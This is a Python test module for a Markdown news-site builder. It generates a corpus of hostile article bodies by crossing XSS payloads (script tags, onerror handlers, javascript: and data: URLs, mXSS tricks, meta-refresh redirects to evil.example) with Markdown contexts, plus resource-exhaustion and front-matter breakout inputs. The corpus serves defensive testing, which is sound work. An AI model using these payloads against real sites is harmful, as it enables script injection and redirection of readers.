"""The hostile corpus, generated: payloads × the places an article can put them.

An attacker who can write one article (a compromised editor account, a pasted press
release, a contributed story) tries to make readers' browsers run a script, go to another
site, or contact another site. The corpus crosses

- :data:`HTML_PAYLOADS`, raw HTML that would do one of those things in a browser (each
  either calls ``alert``/``confirm``/``print``, sets ``window.__pwned``, navigates to
  ``evil.example`` or loads something from it), with
- :data:`CONTEXTS`, the Markdown around it: placed raw, inside fences that are closed,
  left open, indented or oddly written, inside backtick spans, link destinations,
  attribute lists, ``/// caption`` blocks, ``<div markdown="1">``, comments...

plus :data:`URL_PAYLOADS` × :data:`URL_FORMS` (every way Markdown writes a URL),
:data:`MARKDOWN_PAYLOADS` (attribute lists, block options, the issue's own inputs), and
:data:`TEXT_PAYLOADS` for every front-matter field and static pages. Nothing here is
decided in advance: the tests run each input through ``toasoan check`` and the build and
sort them into refused and accepted by what really happens.

Every payload is marked with :data:`BEACON` ("evil.example"), ``alert``, ``confirm``,
``print`` or ``__pwned``, so that the browser test can tell a payload that ran.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from dataclasses import dataclass

BEACON = "evil.example"  # never resolved: tests block every request outside 127.0.0.1
PHOTO = "anh.jpg"  # every bundle of the corpus holds this photo

# Raw HTML that attacks readers when a browser parses it.
HTML_PAYLOADS: dict[str, str] = {
    "script": "<script>window.__pwned=1;alert(1)</script>",
    "script_src": f'<script src="https://{BEACON}/x.js"></script>',
    "img_onerror": "<img src=x onerror=alert(1)>",
    "img_onerror_slash": "<img/src=x/onerror=alert(1)>",
    "img_remote": f'<img src="https://{BEACON}/pixel.png">',
    "img_srcset": f'<img src="{PHOTO}" srcset="https://{BEACON}/x.png 2x">',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url=https://{BEACON}/">',
    "meta_refresh_upper": f'<META HTTP-EQUIV=Refresh CONTENT="0; URL=https://{BEACON}/">',
    "base": f'<base href="https://{BEACON}/">',
    "form": f'<form action="https://{BEACON}/"><button>Gửi</button></form>',
    "button_formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input_autofocus": "<input autofocus onfocus=alert(1)>",
    "iframe_srcdoc": '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    "iframe_js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe_remote": f'<iframe src="https://{BEACON}/embed"></iframe>',
    "object": f'<object data="https://{BEACON}/x.swf"></object>',
    "embed": f'<embed src="https://{BEACON}/x.swf">',
    "link_preconnect": f'<link rel="preconnect" href="https://{BEACON}/">',
    "link_dns_prefetch": f'<link rel="dns-prefetch" href="//{BEACON}">',
    "link_stylesheet": f'<link rel="stylesheet" href="https://{BEACON}/x.css">',
    "style_element": f"<style>body{{background:url(https://{BEACON}/bg.png)}}</style>",
    "style_attribute": f'<p style="background:url(https://{BEACON}/bg.png)">x</p>',
    "svg_onload": "<svg onload=alert(1)></svg>",
    "svg_title_breakout": "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg_a_xlink": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "math_mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math_href": '<math href="javascript:alert(1)">x</math>',
    "noscript_trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "comment_trick": "<!--><img src=x onerror=alert(1)>-->",
    "comment_trick_dash": "<!---><img src=x onerror=alert(1)>-->",
    "comment_bang": "<!--!><img src=x onerror=alert(1)>-->",
    "body_onload": "<body onload=alert(1)>",
    "html_attribute": "<html onmouseover=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "a_javascript": '<a href="javascript:alert(1)">x</a>',
    "a_javascript_tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "a_javascript_entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "a_javascript_colon": '<a href="javascript&colon;alert(1)">x</a>',
    "a_data": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "a_vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a_target_blank": f'<a href="https://{BEACON}/" target="_blank">x</a>',
    "a_ping": f'<a href="/" ping="https://{BEACON}/ping">x</a>',
    "video_poster": f'<video poster="https://{BEACON}/p.png"></video>',
    "audio": f'<audio src="https://{BEACON}/a.mp3" autoplay></audio>',
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "xmp": "<xmp></xmp><img src=x onerror=alert(1)>",
    "clobber_id": '<p id="news-share-title">x</p>',
    "clobber_class": '<span class="md-header news-share">x</span>',
    "clobber_form_id": '<img id="__drawer" src="anh.jpg">',
    "quote_breakout": '<img alt="a"b" onerror=alert(1) src=x>',
    "unclosed_attribute": '<img src="x onerror=alert(1)>',
    "entity_tag": "&lt;script&gt;alert(1)&lt;/script&gt;",  # text, must stay text
    "print": "<img src=x onerror=print()>",
    "confirm": "<img src=x onerror=confirm(1)>",
}

# Markdown around a payload P. Each is how an attacker hopes the pre-check reads P as
# code or text while the renderer reads it as HTML (or the reverse).
CONTEXTS: dict[str, Callable[[str], str]] = {
    "raw": lambda p: f"Đoạn mở đầu.\n\n{p}\n\nĐoạn kết.",
    "inline": lambda p: f"Một câu có {p} ở giữa.",
    "first_paragraph": lambda p: f"{p} mở đầu bài.\n\nĐoạn hai.",
    "quote": lambda p: f"> {p}",
    "list": lambda p: f"- mục một\n- {p}",
    "ordered_list": lambda p: f"1. mục một\n2. {p}",
    "table": lambda p: f"| a | b |\n|---|---|\n| {p} | x |",
    "heading": lambda p: f"## Tiêu đề {p}",
    "fence_closed": lambda p: f"```\n{p}\n```",
    "fence_unclosed": lambda p: f"Đoạn.\n\n```\n{p}",
    "fence_odd_info": lambda p: f"~~~ a b\n{p}\n~~~",
    "fence_indented": lambda p: f"Đoạn.\n\n    ```\n\n{p}\n\n    ```",
    "fence_in_list": lambda p: f"- mục\n\n    ```\n    {p}\n    ```",
    "fence_two_backticks": lambda p: f"``\n{p}\n``",
    "fence_mismatched": lambda p: f"```\n{p}\n~~~",
    "fence_shorter_close": lambda p: f"````\n{p}\n```",
    "fence_tab_indented": lambda p: f"\t```\n\n{p}\n\n\t```",
    "fence_in_quote": lambda p: f"> ```\n> {p}\n> ```",
    "fence_info_backtick": lambda p: f"``` a`b\n{p}\n```",
    "backtick_span": lambda p: f"Mã `{p}` ở đây.",
    "backtick_span_blank": lambda p: f"`<div>\n\n{p}\n\n</div>`",
    "backtick_unclosed": lambda p: f"Mã `{p}",
    "backtick_double": lambda p: f"Mã ``{p}`` ở đây.",
    "backtick_escaped": lambda p: f"Mã \\`{p}\\` ở đây.",
    "link_destination": lambda p: f"[x](<{p}>)",
    "link_destination_bare": lambda p: f"](<{p}>)",
    "angle_destination": lambda p: f"[x]({p})",  # "<meta ...>" is then the <destination>
    "angle_destination_bare": lambda p: f"]({p})",  # the line: no link, so HTML
    "link_title": lambda p: f'[x](/ "{p}")',
    "link_text": lambda p: f"[{p}](/)",
    "image_alt": lambda p: f"![{p}]({PHOTO})",
    "image_title": lambda p: f'![Ảnh]({PHOTO} "{p}")',
    "reference_title": lambda p: f'[x][r]\n\n[r]: /duong-dan "{p}"',
    "attribute_list_title": lambda p: f'Đoạn.\n{{: title="{p}" }}',
    "attribute_list_after": lambda p: f"{p}{{: .chu-thich }}",
    "caption_block": lambda p: f"![Ảnh]({PHOTO})\n\n/// caption\n{p}\n///",
    "md_in_html": lambda p: f'<div markdown="1">\n\n{p}\n\n</div>',
    "md_in_html_span": lambda p: f'<p markdown="span">{p}</p>',
    "html_block": lambda p: f"<div>\n{p}\n</div>",
    "html_inline": lambda p: f"<span>{p}</span>",
    "details": lambda p: f"<details><summary>x</summary>\n\n{p}\n\n</details>",
    "comment": lambda p: f"<!-- {p} -->",
    "comment_unclosed": lambda p: f"Đoạn.\n\n<!-- {p}",
    "escaped": lambda p: f"\\{p}",
    "indented_code": lambda p: f"Đoạn.\n\n    {p}",
    "entities": lambda p: html.escape(p),
    "after_hard_break": lambda p: f"Dòng một  \n{p}",
    "setext_heading": lambda p: f"{p}\n---",
}

# URLs that must never become a link, photo or anything a browser follows.
URL_PAYLOADS: dict[str, str] = {
    "javascript": "javascript:alert(1)",
    "javascript_case": "JaVaScRiPt:alert(1)",
    "javascript_tab": "java\tscript:alert(1)",
    "javascript_entity": "&#106;avascript:alert(1)",
    "javascript_hex_tab": "java&#x09;script:alert(1)",
    "javascript_newline_entity": "java&#10;script:alert(1)",
    "javascript_colon_entity": "javascript&colon;alert(1)",
    "javascript_space": " javascript:alert(1)",
    "javascript_percent": "javascript:%61lert(1)",
    "data_html": "data:text/html,<script>alert(1)</script>",
    "data_html_base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data_svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript": "vbscript:msgbox(1)",
    "remote_photo": f"https://{BEACON}/pixel.png",
    "protocol_relative": f"//{BEACON}/pixel.png",
    "backslashes": f"\\\\{BEACON}\\pixel.png",
    "slash_backslash": f"/\\{BEACON}/pixel.png",
    "http_remote": f"http://{BEACON}/pixel.png",
    "broken_host": "http://[oops/",
}

# Every way Markdown (and raw HTML) writes a URL.
URL_FORMS: dict[str, Callable[[str], str]] = {
    "link": lambda u: f"[bấm vào đây]({u})",
    "link_angle": lambda u: f"[bấm vào đây](<{u}>)",
    "link_reference": lambda u: f"[bấm vào đây][r]\n\n[r]: {u}",
    "link_reference_angle": lambda u: f"[bấm vào đây][r]\n\n[r]: <{u}>",
    "image": lambda u: f"![Ảnh]({u})",
    "image_reference": lambda u: f"![Ảnh][r]\n\n[r]: {u}",
    "autolink": lambda u: f"<{u}>",
    "attribute_list_href": lambda u: f'[x](/){{: href="{u}" }}',
    "attribute_list_src": lambda u: f'![Ảnh]({PHOTO}){{: src="{u}" }}',
    "html_a": lambda u: f'<a href="{u}">x</a>',
    "html_img": lambda u: f'<img src="{u}" alt="x">',
    "html_blockquote_cite": lambda u: f'<blockquote cite="{u}">x</blockquote>',
    "md_in_html_a": lambda u: f'<div markdown="1">\n[x]({u})\n</div>',
}

# Markdown-level attacks that are not a payload in a context.
MARKDOWN_PAYLOADS: dict[str, str] = {
    # The issue's own inputs (issue 15, "Found").
    "issue_redirect_line": '](<meta http-equiv="refresh" content="0;url=https://evil.example/">)',
    "issue_div_in_backticks": '`<div>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n</div>`',
    "issue_noscript_open_fence": ('~~~\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
                                  "</noscript>"),
    # Attribute lists (attr_list) set any attribute on the element before them.
    "attr_onclick": 'Đoạn.\n{: onclick="alert(1)" }',
    "attr_style": f'Đoạn.\n{{: style="background:url(https://{BEACON}/x)" }}',
    "attr_on_heading": "## Tiêu đề {: onmouseover=alert(1) }",
    "attr_on_link": "[x](/){: onclick=alert(1) }",
    "attr_target": "[x](https://example.org/){: target=_blank }",
    "attr_reserved_class": "Đoạn.\n{: .md-header }",
    "attr_reserved_id": "Đoạn.\n{: #toasoan-search-q }",
    "attr_unquoted_breakout": 'Đoạn.\n{: title=a"onclick="alert(1) }',
    "attr_srcdoc": '![Ảnh](anh.jpg){: srcdoc="<script>alert(1)</script>" }',
    # /// caption block options become HTML attributes; YAML there allows aliases.
    "caption_attrs_onclick": "![Ảnh](anh.jpg)\n\n/// caption\n    attrs: {onclick: alert(1)}\nChú thích\n///",
    "caption_attrs_style": "![Ảnh](anh.jpg)\n\n/// caption\n    attrs: {style: 'color:red'}\nChú thích\n///",
    "caption_yaml_alias": ("![Ảnh](anh.jpg)\n\n/// caption\n    attrs: &a {class: x}\n    other: *a\n"
                           "Chú thích\n///"),
    "md_in_html_attribute": '<div markdown="1" onclick="alert(1)">\nx\n</div>',
    "heading_news_prefix": "## News of the day",  # ordinary text: must not be refused
    "table_aligned": "| Mục | Số |\n|:---|---:|\n| Gạo | 1.200 |",  # ordinary: must not be refused
    # Resource limits.
    "nested_lists_one_line": "- + " * 3000 + "x",
    "nested_numbers_one_line": "1. " * 3000 + "x",
    "nested_md_in_html": '<div markdown="1">\n' * 3000 + "x\n" + "</div>\n" * 3000,
    "nested_quotes": ">" * 3000 + " x",
    "emphasis_run": "*" * 3000 + "x",
    "brackets_run": "[" * 5000 + "x",
    "fences_never_closed": "```a\n" * 300,
    "fences_many": "```\nx\n```\n\n" * 150,
    "fence_then_emphasis": "```\n" + "*a* _b_ " * 8000,
    "captions_in_a_row": "/// caption\nx\n///\n\n" * 1200,
}

# Text for front-matter fields (title, author, categories, tags, lead, alt, caption) and
# static pages: breaks out of HTML, attributes, <title>, JSON-LD, XML and URLs if printed raw.
TEXT_PAYLOADS: dict[str, str] = {
    "script": "</title></script><script>alert(1)</script>",
    "attribute": "\"' onmouseover=alert(1) x=\"",
    "img": "<img src=x onerror=alert(1)>",
    "comment": "--><img src=x onerror=alert(1)><!--",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "json": '"}]</script><script>alert(1)</script>',
    "javascript_url": "javascript:alert(1)",
    "jinja": "{{ 7*7 }} {% raw %}",
    "entities": "AT&amp;T &lt;b&gt; &#60;i&#62;",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "svg": "<svg onload=alert(1)>",
    "backslash": "\\\"\\u003cscript\\u003e",
    "long": "Tít rất dài " * 30,
    "bidi": "abc\u202etxt.exe",
    "zero_width": "Kinh\u200btế",
    "escape_char": "a\x1bb",
    "nul": "a\x00b",
    "nbsp": "Hà\u00a0Nội",
    "ampersand": "Mưa & gió < 5 > 3",
}


@dataclass(frozen=True)
class Snippet:
    """One body of the corpus: ``name`` is "payload@context"."""

    name: str
    body: str

    @property
    def slug(self) -> str:
        """A folder name for the snippet's article."""
        return "".join(c if c.isalnum() else "-" for c in self.name.lower()).strip("-")[:90]


def body_snippets() -> list[Snippet]:
    """Every body of the corpus, in a stable order."""
    snippets = [Snippet(f"{payload}@{context}", wrap(text))
                for payload, text in HTML_PAYLOADS.items()
                for context, wrap in CONTEXTS.items()]
    snippets += [Snippet(f"url-{payload}@{form}", write(url))
                 for payload, url in URL_PAYLOADS.items()
                 for form, write in URL_FORMS.items()]
    snippets += [Snippet(f"md-{name}@raw", text) for name, text in MARKDOWN_PAYLOADS.items()]
    snippets += [Snippet(f"text-{name}@caption", f'![Ảnh]({PHOTO} "{text}")')
                 for name, text in TEXT_PAYLOADS.items() if '"' not in text]
    snippets += [Snippet(f"text-{name}@alt", f"![{text}]({PHOTO})")
                 for name, text in TEXT_PAYLOADS.items() if "]" not in text]
    return snippets


# Labels (categories, authors, tags) become addresses: past ~250 characters the build stops
# with "File name too long" (a hole outside this round's files, reported in
# tests/build/test_security.py); the corpus keeps its labels shorter than that.
LABEL_LIMIT = 120


def field_values(name: str, text: str) -> dict[str, object]:
    """Front matter carrying ``text`` in every field that takes text."""
    label = text[:LABEL_LIMIT]
    return {"title": f"Tin {text}", "author": [f"Phóng viên {label}"],
            "categories": [f"Mục {label}"], "tags": [f"Thẻ {label}"], "lead": f"Sapo {text}"}
